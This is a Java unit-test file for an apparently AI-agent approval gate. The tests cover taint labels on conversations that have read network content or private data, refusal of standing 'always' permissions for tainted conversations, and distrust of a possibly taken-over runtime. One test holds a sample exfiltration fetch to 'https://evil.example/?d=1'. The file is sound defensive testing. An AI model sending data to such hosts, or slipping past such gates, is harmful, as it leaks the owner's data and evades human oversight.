package moltbot.control.approval;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import moltbot.contract.ContractException;
import moltbot.contract.json.JsonObject;
import moltbot.contract.label.Label;
import moltbot.contract.link.LinkClient;
import moltbot.contract.web.WebFetch;
import moltbot.control.ControlProcess;
import moltbot.control.Effects;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/// What a conversation has read, as control keeps it whatever the runtime says, and what the owner's "always" is worth
/// then; over real links to the real process.
class LabelTest {
    @TempDir
    Path root;

    private ControlProcess control;
    private LinkClient runtime;
    private LinkClient host;

    @BeforeEach
    void start() throws Exception {
        control = new ControlProcess(root);
        runtime = control.as("runtime");
        host = control.as("host");
        host.ask(
                "chat.submit",
                JsonObject.with("session", "s").with("id", "m1").build(),
                "read https://b.example/".getBytes(StandardCharsets.UTF_8));
    }

    @AfterEach
    void stop() {
        control.close();
    }

    private JsonObject authorize(String call, Label claimed) {
        return runtime.ask(
                "gate.authorize",
                Effects.request(call, "sandbox.run", Effects.networkCommand("curl", "https://a.example/me"), claimed));
    }

    private void answer(JsonObject asked, String decision) {
        host.ask(
                "approval.answer",
                JsonObject.with("approval", asked.text("approval"))
                        .with("decision", decision)
                        .build());
        runtime.ask(
                "gate.await",
                JsonObject.with("approval", asked.text("approval")).build());
    }

    private JsonObject explained(String call) {
        return host.ask("policy.explain", JsonObject.with("call", call).build());
    }

    @Test
    void asksNoMoreForWhatTheOwnerAlwaysAllows() throws Exception {
        answer(authorize("c1", Label.OWNERS), "always");

        assertThat(authorize("c2", Label.OWNERS).text("decidedBy")).isEqualTo("rules");
        assertThat(explained("c2").object("decided").text("decidedBy")).isEqualTo("rules");
        control.killAndRestart();
        assertThat(authorize("c3", Label.OWNERS).text("decision")).isEqualTo("allow");

        JsonObject rule = host.ask("policy.rules", JsonObject.EMPTY)
                .list("rules")
                .objects()
                .getFirst();
        assertThat(rule.text("sentence")).isEqualTo("Any command may ask https://a.example/me by GET, POST.");
        host.ask("policy.forget", JsonObject.with("rule", rule.text("id")).build());
        assertThat(authorize("c4", Label.OWNERS).text("decision")).isEqualTo("ask");
        control.killAndRestart();
        assertThat(authorize("c5", Label.OWNERS).text("decision")).isEqualTo("ask");
    }

    /// The runtime once said that the conversation knows what is private, and was given what is read from the network:
    /// however innocent it says it is now, no "always" counts any more.
    @Test
    void neverBelievesThatAConversationForgot() throws Exception {
        answer(authorize("c1", Label.KEPT), "always");

        JsonObject again = authorize("c2", Label.OWNERS);
        assertThat(again.text("decision")).isEqualTo("ask");
        assertThat(again.text("why")).startsWith("It has read what others wrote, knows what is yours");
        assertThat(explained("c2").object("line").text("decision")).isEqualTo("each");
        assertThat(explained("c2").object("decided").object("label")).isEqualTo(Label.WORST.toJson());
        control.killAndRestart();
        assertThat(authorize("c3", Label.OWNERS).text("decision")).isEqualTo("ask");
    }

    @Test
    void takesNoAlwaysForWhatIsAskedEachTime() {
        JsonObject asked = authorize("c1", Label.WORST);
        assertThatThrownBy(() -> answer(asked, "always"))
                .isInstanceOfSatisfying(
                        ContractException.class, e -> assertThat(e.reason()).isEqualTo("no-rule"));
        answer(asked, "approve");
    }

    @Test
    void explainsNothingThatWasNotDecided() {
        assertThatThrownBy(() -> explained("nothing"))
                .isInstanceOfSatisfying(
                        ContractException.class, e -> assertThat(e.reason()).isEqualTo("unknown-call"));
        assertThat(host.ask("policy.explain", JsonObject.EMPTY).list("paths").objects())
                .isNotEmpty();
    }

    @Test
    void letsOnlyTheOwnersShellForget() {
        answer(authorize("c1", Label.OWNERS), "always");
        String id = host.ask("policy.rules", JsonObject.EMPTY)
                .list("rules")
                .objects()
                .getFirst()
                .text("id");
        assertThatThrownBy(() ->
                        runtime.ask("policy.forget", JsonObject.with("rule", id).build()))
                .isInstanceOfSatisfying(
                        ContractException.class, e -> assertThat(e.reason()).isEqualTo("not-allowed"));
    }

    private JsonObject fetch(String call, String session, String url) {
        JsonObject request =
                Effects.request(call, "web.fetch", new WebFetch(url, WebFetch.Way.NAMED).toJson()).toBuilder()
                        .with("session", session)
                        .build();
        return runtime.ask("gate.authorize", request);
    }

    /// A runtime that was taken over says what it likes of who wrote an address, and of which conversation it is.
    @Test
    void believesOnlyWhatItHeardItself() {
        assertThat(fetch("c1", "s", "https://b.example/").text("decision")).isEqualTo("allow");
        assertThat(fetch("c2", "s", "https://evil.example/?d=1").text("decision"))
                .isEqualTo("ask");
        assertThat(fetch("c3", "nobody-opened-this", "https://b.example/").text("decision"))
                .isEqualTo("ask");
        JsonObject invented = Effects.request("c4", "sandbox.run", Effects.networkCommand("curl")).toBuilder()
                .with("session", "nobody-opened-this")
                .build();
        runtime.ask("gate.authorize", invented);
        assertThat(explained("c4").object("decided").object("label")).isEqualTo(Label.WORST.toJson());
    }

    private Label laterIn(String session, String call) {
        runtime.ask(
                "gate.authorize",
                Effects.request(call, "sandbox.run", Effects.networkCommand("curl")).toBuilder()
                        .with("session", "schedule-" + session)
                        .build());
        return Label.fromJson(explained(call).object("decided").object("label"));
    }

    /// What runs later is judged as the conversation that asked for it was, whatever the runtime says then.
    @Test
    void judgesWhatRunsLaterByTheConversationThatAskedForIt() throws Exception {
        runtime.ask("gate.authorize", Effects.request("c1", "schedule.make", Effects.schedule("0".repeat(16))));
        assertThat(laterIn("0".repeat(16), "c2"))
                .as("no more is held against it")
                .isEqualTo(Label.OWNERS);

        JsonObject asked = runtime.ask(
                "gate.authorize",
                Effects.request("c3", "schedule.make", Effects.schedule("1".repeat(16)), Label.WORST));
        assertThat(laterIn("1".repeat(16), "c4")).as("before the owner's yes").isEqualTo(Label.WORST);
        answer(asked, "approve");
        assertThat(laterIn("1".repeat(16), "c5")).isEqualTo(Label.WORST);

        JsonObject again = runtime.ask(
                "gate.authorize",
                Effects.request("c6", "schedule.make", Effects.schedule("0".repeat(16)), Label.FOREIGN));
        answer(again, "approve");
        assertThat(laterIn("0".repeat(16), "c7")).as("it only gets worse").isEqualTo(Label.WORST);
        control.killAndRestart();
        assertThat(laterIn("0".repeat(16), "c8")).isEqualTo(Label.WORST);
    }
}
